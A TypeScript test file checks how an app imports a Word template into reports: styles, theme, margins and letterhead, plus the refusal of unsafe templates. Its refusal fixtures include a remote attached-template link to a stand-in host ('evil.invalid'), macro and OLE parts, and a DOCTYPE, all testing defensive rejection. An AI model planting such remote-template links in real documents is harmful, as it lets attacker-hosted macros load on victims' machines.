/** Tests an office's Word template: the parts that reports use, and files that are refused. */
import { randomUUID } from 'node:crypto'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { toEnglish } from '../../core/i18n/english-messages.ts'
import { createPng } from '../testing/pictures.ts'
import { createTempStore, saveNote, type TestStore, unwrap, unwrapError } from '../testing/temp-store.ts'
import {
  makeLetterhead,
  makeWordTemplate,
  writeContentTypes,
  writeStyles,
} from '../testing/word-templates.ts'
import { readPrintedLines } from './testing/read-with-libreoffice.ts'
import { saveAs, type WantedExport } from './testing/sample.ts'

const wanted: WantedExport = { format: 'docx', include: { notes: true, tableOfContents: true, cover: true } }

function chooseTemplate(store: TestStore, file: Uint8Array, name = 'Ministère.dotx') {
  const path = join(store.folder, name)
  writeFileSync(path, file)
  const grant = randomUUID()
  store.grants.add(grant, { path, mode: 'read' })
  return store.request('wordTemplate.choose', { grant })
}

async function getParts(store: TestStore): Promise<(name: string) => string> {
  const files = unzipSync(readFileSync(await saveAs(store, wanted)))
  return (name) => strFromU8(files[name] ?? new Uint8Array())
}

async function createStoreWithTemplate(): Promise<TestStore> {
  const store = createTempStore()
  saveNote(store, '## Heading\n\nSaid in the room.', { session: 'workshop-9' })
  unwrap(await chooseTemplate(store, makeWordTemplate()))
  return store
}

function getStyle(part: string, name: string): string {
  const found = part.match(/<w:style .*?<\/w:style>/g)?.filter((style) => style.includes(`w:val="${name}"/>`))
  return found?.find((style) => /<w:name [^>]*>/.exec(style)?.[0].includes(`"${name}"`)) ?? ''
}

test('styles of the template are found by name, whatever their ids', async () => {
  const part = await getParts(await createStoreWithTemplate())
  const made = part('word/styles.xml')
  expect(getStyle(made, 'heading 1')).toMatch(
    /w:styleId="Heading1".*<w:basedOn w:val="Normal"\/><w:next w:val="Normal"\/><w:link w:val="Titre1Car"\/>.*w:val="C00000" w:themeColor="accent1"/,
  )
  expect(getStyle(made, 'Titre 1 Car')).toContain('<w:link w:val="Heading1"/>')
  expect(getStyle(made, 'Bandeau')).toMatch(/w:styleId="TemplateHeading2".*<w:basedOn w:val="Heading1"\/>/)
  expect(made.match(/w:styleId="[^"]*"/g)).toHaveLength(new Set(made.match(/w:styleId="[^"]*"/g)).size)
  const used = part('word/document.xml').matchAll(/<w:(?:p|r)Style w:val="([^"]*)"/g)
  for (const [, id] of used) expect(made).toContain(`w:styleId="${id}"`)
})

test('missing styles are added in the fonts of the template, and code keeps its own font', async () => {
  const made = (await getParts(await createStoreWithTemplate()))('word/styles.xml')
  expect(getStyle(made, 'heading 2')).toContain('w:styleId="Heading2"')
  expect(getStyle(made, 'Session Facts')).not.toContain('rFonts')
  expect(getStyle(made, 'Source Code')).toContain('Consolas')
})

test('headings keep the numbering of the report; headers and contents use its tab stops', async () => {
  const part = await getParts(await createStoreWithTemplate())
  const made = part('word/styles.xml')
  expect(made).not.toContain('numPr')
  expect(getStyle(made, 'header')).toContain(
    '<w:pPr><w:keepNext/><w:tabs><w:tab w:val="right" w:pos="9071"/></w:tabs><w:spacing w:after="0"/></w:pPr>',
  )
})

test('the language is that of the report, and elements of other namespaces are removed', async () => {
  const part = await getParts(await createStoreWithTemplate())
  expect(part('word/styles.xml')).toContain('<w:sz w:val="21"/><w:lang w:val="en-GB"/></w:rPr>')
  expect(part('word/styles.xml')).not.toContain('fr-FR')
  expect(part('word/styles.xml')).not.toContain('w14')
})

test('the report uses the theme and margins of the template', async () => {
  const part = await getParts(await createStoreWithTemplate())
  expect(part('word/theme/theme1.xml')).toContain('<a:accent1><a:srgbClr val="C00000"/></a:accent1>')
  expect(part('word/theme/theme1.xml')).toContain('<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>')
  expect(part('word/theme/theme1.xml')).not.toContain('r:embed')
  expect(part('[Content_Types].xml')).toContain('/word/theme/theme1.xml')
  expect(part('word/_rels/document.xml.rels')).toContain('Target="theme/theme1.xml"')
  expect(part('word/document.xml')).toContain(
    '<w:pgMar w:top="2268" w:right="1134" w:bottom="1134" w:left="1701" w:header="600" w:footer="500" w:gutter="0"/>',
  )
})

test.each([true, false])(
  'the first page has the header of the template, with its logo: cover %s',
  async (cover) => {
    const store = createTempStore()
    saveNote(store, 'Said in the room.', { session: 'workshop-9' })
    const logo = createPng(40, 30)
    unwrap(await chooseTemplate(store, makeWordTemplate(makeLetterhead(logo))))
    const include = { ...wanted.include, cover }
    const files = unzipSync(readFileSync(await saveAs(store, { ...wanted, include })))
    const part = (name: string) => strFromU8(files[name] ?? new Uint8Array())
    const header = part('word/header-first.xml')
    expect(header).toContain('<w:t xml:space="preserve">Ministère de la Justice </w:t>')
    expect(header.match(/<w:drawing>/g)).toHaveLength(1)
    expect(header).not.toMatch(/instrText|fldChar|hyperlink|extLst|hlinkClick/)
    const [, relation] = /r:embed="([^"]+)"/.exec(header) ?? []
    const [, target = ''] =
      new RegExp(`Id="${relation}"[^>]*Target="([^"]+)"`).exec(part('word/_rels/header-first.xml.rels')) ?? []
    expect(Buffer.from(files[`word/${target}`] ?? []).equals(logo)).toBe(true)
    // Without a cover, the first page also has the report's own line.
    expect(header.includes('STYLEREF 1')).toBe(!cover)
    expect(part('word/document.xml')).toContain('<w:titlePg/>')
    expect(part('word/header.xml')).not.toContain('Ministère')
    // The tab stops are those of the template, and not those of the report's header.
    const [, id] = /<w:pStyle w:val="([^"]+)"/.exec(header) ?? []
    expect(new RegExp(`w:styleId="${id}".*?</w:style>`).exec(part('word/styles.xml'))?.[0]).toContain(
      '<w:tab w:val="center" w:pos="4536"/>',
    )
  },
)

test('a logo of a kind that reports cannot show is left out, and the text of the header stays', async () => {
  const store = createTempStore()
  saveNote(store, 'Said in the room.', { session: 'workshop-9' })
  const parts = makeLetterhead(new TextEncoder().encode('EMF'))
  unwrap(await chooseTemplate(store, makeWordTemplate(parts)))
  const header = (await getParts(store))('word/header-first.xml')
  expect(header).toContain('Ministère')
  expect(header).not.toContain('<w:drawing>')
})

test('margins that leave too little room are ignored', async () => {
  const store = await createStoreWithTemplate()
  const margins = '<w:pgMar w:top="1" w:right="9000" w:bottom="1" w:left="1" w:header="1" w:footer="1"/>'
  const document = `<w:document xmlns:w="x"><w:body><w:sectPr>${margins}</w:sectPr></w:body></w:document>`
  unwrap(await chooseTemplate(store, makeWordTemplate({ 'word/document.xml': document })))
  expect((await getParts(store))('word/document.xml')).toContain('<w:pgMar w:top="1417" w:right="1417"')
})

test('a report without a template is unchanged', async () => {
  const store = await createStoreWithTemplate()
  unwrap(store.call('wordTemplate.remove', {}))
  expect(unwrap(store.call('wordTemplate.get', {}))).toBeNull()
  const removed = readFileSync(await saveAs(store, wanted))
  const never = createTempStore()
  saveNote(never, '## Heading\n\nSaid in the room.', { session: 'workshop-9' })
  expect(removed.equals(readFileSync(await saveAs(never, wanted)))).toBe(true)
  expect(unzipSync(removed)['word/theme/theme1.xml']).toBeUndefined()
})

test.runIf(process.platform === 'linux')(
  'LibreOffice reads a report with a template',
  { timeout: 400_000 },
  async () => {
    const store = await createStoreWithTemplate()
    unwrap(await chooseTemplate(store, makeWordTemplate(makeLetterhead(createPng(40, 30)))))
    const text = await readPrintedLines(await saveAs(store, wanted))
    expect(text).toContain('Said in the room.')
    expect(text).toContain('Ministère de la Justice')
  },
)

const KINDS = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const attached =
  '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.invalid/x.dotm" TargetMode="External"/></Relationships>'
const tooManyStyles = writeStyles().replace(
  '<w:docDefaults>',
  `<w:x w:a="${'x'.repeat(5_000_000)}"/><w:docDefaults>`,
)

test.each<[string, Uint8Array, RegExp]>([
  [
    'brand.dotm',
    makeWordTemplate({ 'word/vbaProject.bin': 'x' }),
    /^brand\.dotm: it contains macros, and templates must/,
  ],
  [
    'macros-by-kind.dotx',
    makeWordTemplate({
      '[Content_Types].xml': writeContentTypes(
        'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
      ),
    }),
    /it contains macros/,
  ],
  [
    'remote.dotx',
    makeWordTemplate({ 'word/_rels/settings.xml.rels': attached }),
    /a template that is loaded/,
  ],
  ['ole.dotx', makeWordTemplate({ 'word/embeddings/oleObject1.bin': 'x' }), /OLE/],
  [
    'document.docx',
    makeWordTemplate({ '[Content_Types].xml': writeContentTypes(`${KINDS}.document.main+xml`) }),
    /^document\.docx: it is a Word document, not a template\./,
  ],
  [
    'table.dotx',
    makeWordTemplate({ '[Content_Types].xml': writeContentTypes('x') }),
    /it is not a Word template/,
  ],
  ['old.dot', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0), /^old\.dot: it is not a Word template/],
  ['empty.dotx', makeWordTemplate({ 'word/styles.xml': null }), /it has no styles/],
  [
    'strict.dotx',
    makeWordTemplate({ 'word/styles.xml': writeStyles('http://purl.oclc.org/x') }),
    /Strict Open XML/,
  ],
  ['broken.dotx', makeWordTemplate({ 'word/styles.xml': '<w:styles>' }), /^broken\.dotx: line 1 /],
  ['cut.dotx', makeWordTemplate().subarray(0, 900), /^cut\.dotx: its contents cannot be checked/],
  ['doctype.dotx', makeWordTemplate({ 'word/styles.xml': `<!DOCTYPE a>${writeStyles()}` }), /DOCTYPE/],
  [
    'long.dotx',
    makeWordTemplate({ 'word/styles.xml': tooManyStyles }),
    /more styles than a report can take over/,
  ],
  ['large.dotx', new Uint8Array(20 * 1024 * 1024 + 1), /^large\.dotx is larger than 20 MB\./],
])('%s is refused, and the earlier template stays', async (name, file, reason) => {
  const store = await createStoreWithTemplate()
  const failure = unwrapError(await chooseTemplate(store, file, name))
  expect(failure.code).toBe('bad-file')
  expect(failure.details && toEnglish(failure.details)).toMatch(reason)
  expect(unwrap(store.call('wordTemplate.get', {}))).toEqual({ fileName: 'Ministère.dotx' })
})
